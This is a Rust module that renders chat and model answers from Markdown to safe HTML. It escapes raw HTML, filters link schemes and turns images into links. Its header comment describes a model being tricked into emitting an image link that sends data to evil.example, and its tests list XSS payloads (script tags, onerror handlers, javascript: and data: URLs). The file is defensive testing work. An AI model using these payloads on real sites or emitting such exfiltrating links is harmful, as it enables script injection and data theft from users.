//! Markdown to HTML for messages, safe whatever the text: the same function renders a message on
//! the server and a streaming answer in the browser.
//!
//! Safety does not depend on cleaning HTML afterwards, because no HTML from the text is ever let
//! through: CommonMark's raw HTML becomes visible text, every other character is escaped by the
//! renderer, and links keep only `http`, `https`, `mailto` and same-site addresses. Images become
//! links: a model that is tricked into writing `![](https://evil.example/?data=...)` must not make
//! the browser fetch that address.

use pulldown_cmark::{CodeBlockKind, CowStr, Event, Options, Parser, Tag, TagEnd, html};

use crate::highlight;

/// Renders `text` (CommonMark with tables, strikethrough and task lists) to safe HTML.
pub fn render(text: &str) -> String {
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_GFM;
    // A code block's text is gathered and highlighted as a whole (`Some((language, code))`).
    let mut code_block: Option<(String, String)> = None;
    let mut events = Vec::new();
    for event in Parser::new_ext(text, options) {
        if let Some((language, code)) = &mut code_block {
            match event {
                Event::Text(t) => code.push_str(&t),
                Event::End(TagEnd::CodeBlock) => {
                    let html = format!(
                        "{}</code></pre></div>",
                        highlight::highlight(code, language)
                    );
                    events.push(Event::Html(CowStr::from(html)));
                    code_block = None;
                }
                _ => {}
            }
            continue;
        }
        events.push(match event {
            // Raw HTML is shown as the text it is.
            Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
            Event::Start(Tag::Link {
                link_type,
                dest_url,
                title,
                id,
            }) => Event::Start(Tag::Link {
                link_type,
                dest_url: safe_url(dest_url),
                title,
                id,
            }),
            Event::Start(Tag::Image {
                dest_url,
                title,
                id,
                link_type,
            }) => Event::Start(Tag::Link {
                link_type,
                dest_url: safe_url(dest_url),
                title,
                id,
            }),
            Event::End(TagEnd::Image) => Event::End(TagEnd::Link),
            Event::Start(Tag::CodeBlock(kind)) => {
                let language = match kind {
                    CodeBlockKind::Fenced(info) => {
                        info.split_whitespace().next().unwrap_or("").to_owned()
                    }
                    CodeBlockKind::Indented => String::new(),
                };
                let start = code_block_start(&language);
                code_block = Some((language.to_ascii_lowercase(), String::new()));
                Event::Html(CowStr::from(start))
            }
            other => other,
        });
    }
    // A code block still open at the end (an answer still streaming) is closed here.
    if let Some((language, code)) = code_block {
        let html = format!(
            "{}</code></pre></div>",
            highlight::highlight(&code, &language)
        );
        events.push(Event::Html(CowStr::from(html)));
    }
    let mut out = String::with_capacity(text.len() * 3 / 2);
    html::push_html(&mut out, events.into_iter());
    out
}

/// The frame of a code block: its language and a copy button (the page wires the button).
fn code_block_start(language: &str) -> String {
    let language: String = language
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '+' | '#' | '.'))
        .take(30)
        .collect();
    let class = if language.is_empty() {
        String::new()
    } else {
        format!(r#" class="language-{language}""#)
    };
    format!(
        r#"<div class="code-block"><div class="code-head"><span>{label}</span><button type="button" class="copy-code" data-copy-code>Copy</button></div><pre><code{class}>"#,
        label = if language.is_empty() {
            "code"
        } else {
            &language
        },
    )
}

/// Keeps `http`, `https` and `mailto` addresses and links within the site; anything else
/// (`javascript:`, `data:`, `vbscript:`, ...) becomes `#`.
fn safe_url(url: CowStr<'_>) -> CowStr<'_> {
    let trimmed: String = url
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .collect::<String>()
        .to_ascii_lowercase();
    let same_site = (trimmed.starts_with('/') && !trimmed.starts_with("//"))
        || trimmed.starts_with('#')
        || trimmed.starts_with('?');
    let allowed = ["http://", "https://", "mailto:"]
        .iter()
        .any(|scheme| trimmed.starts_with(scheme));
    if same_site || allowed {
        url
    } else {
        CowStr::from("#")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markdown_renders() {
        let html = render(
            "# Title\n\n**bold** and `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done",
        );
        assert!(html.contains("<h1>Title</h1>"), "{html}");
        assert!(html.contains("<strong>bold</strong>"));
        assert!(html.contains("<code>code</code>"));
        assert!(html.contains("<table>"));
        assert!(html.contains(r#"type="checkbox""#));
    }

    #[test]
    fn code_blocks_get_their_language_and_a_copy_button() {
        let html = render("```rust\nfn main() { println!(\"<hi>\"); }\n```");
        assert!(html.contains(r#"<code class="language-rust">"#), "{html}");
        assert!(html.contains("data-copy-code"));
        assert!(html.contains("&lt;hi&gt;"), "code is escaped: {html}");
        assert!(
            html.contains(r#"<span class="tok-k">fn</span>"#),
            "highlighted: {html}"
        );
        let streaming = render("```python\n# half-written\nprint('<b>')");
        assert!(streaming.ends_with("</code></pre></div>"), "{streaming}");
        assert!(!streaming.contains("<b>"), "{streaming}");
        let sneaky = render("```rust\"><script>alert(1)</script>\nx\n```");
        assert!(!sneaky.contains("<script>"), "{sneaky}");
    }

    #[test]
    fn nothing_from_the_text_can_run() {
        let attacks = [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "text <b onmouseover=alert(1)>hover</b>",
            "[click](javascript:alert(1))",
            "[click](JaVaScRiPt:alert(1))",
            "[click]( javascript:alert(1))",
            "[click](java\tscript:alert(1))",
            "[data](data:text/html;base64,PHNjcmlwdD4=)",
            "![img](javascript:alert(1))",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<svg onload=alert(1)>",
            "<iframe src=https://evil.example></iframe>",
        ];
        for attack in attacks {
            let html = render(attack);
            let lower = html.to_lowercase();
            assert!(!lower.contains("<script"), "{attack} → {html}");
            assert!(!lower.contains("<img"), "{attack} → {html}");
            assert!(!lower.contains("<svg"), "{attack} → {html}");
            assert!(!lower.contains("<iframe"), "{attack} → {html}");
            assert!(!lower.contains("<a href=\"javascript"), "{attack} → {html}");
            assert!(!lower.contains("<a href=\"data:"), "{attack} → {html}");
            assert!(!lower.contains("<b "), "{attack} → {html}");
        }
    }

    #[test]
    fn an_answer_cut_off_in_a_long_code_string_renders_in_linear_time() {
        // What the chat page renders for an answer that holds an unclosed 3 MB string of escaped
        // quotes in a code block: well under a second here, unoptimised; with the highlighter
        // that scanned from every quote, 300 KB took seconds and this, hours.
        let text = format!("```json\n{{\"data\": \"{}", "\\\"".repeat(1_500_000));
        let (done, rendered) = std::sync::mpsc::channel();
        // A render that never finishes is left behind; the test process ends without it.
        std::thread::spawn(move || {
            let _ = done.send(render(&text));
        });
        let html = rendered
            .recv_timeout(std::time::Duration::from_secs(20))
            .expect("rendered within 20 s");
        assert!(html.ends_with("</code></pre></div>"), "the block is closed");
    }

    #[test]
    fn images_become_links_and_safe_links_stay() {
        let html = render(
            "![chart](https://img.example/c.png) [docs](https://docs.example/a?b=1) [here](/settings)",
        );
        assert!(!html.contains("<img"), "{html}");
        assert!(
            html.contains(r#"<a href="https://img.example/c.png">chart</a>"#),
            "{html}"
        );
        assert!(
            html.contains(r#"<a href="https://docs.example/a?b=1">docs</a>"#),
            "{html}"
        );
        assert!(html.contains(r#"<a href="/settings">here</a>"#), "{html}");
    }
}
